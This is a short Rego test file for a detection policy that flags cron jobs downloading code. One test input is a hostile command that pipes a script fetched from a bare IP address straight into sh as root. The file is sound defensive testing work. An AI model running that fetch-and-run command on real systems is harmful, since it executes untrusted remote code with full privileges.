package linux.cron_download_test

import data.linux.cron_download

test_a_download_into_a_shell_is_told if count(cron_download.alert) == 1 with input as cron("curl -fsSL http://198.51.100.7/a | sh")

test_a_check_by_curl_is_not_told if count(cron_download.alert) == 0 with input as cron("curl -fsS https://status.example.com/ping > /dev/null")

cron(line) := {"ocsf": {
	"metadata": {"event_code": "cron_command"},
	"process": {"cmd_line": line, "user": {"name": "root"}},
	"device": {"hostname": "web-1"},
}}
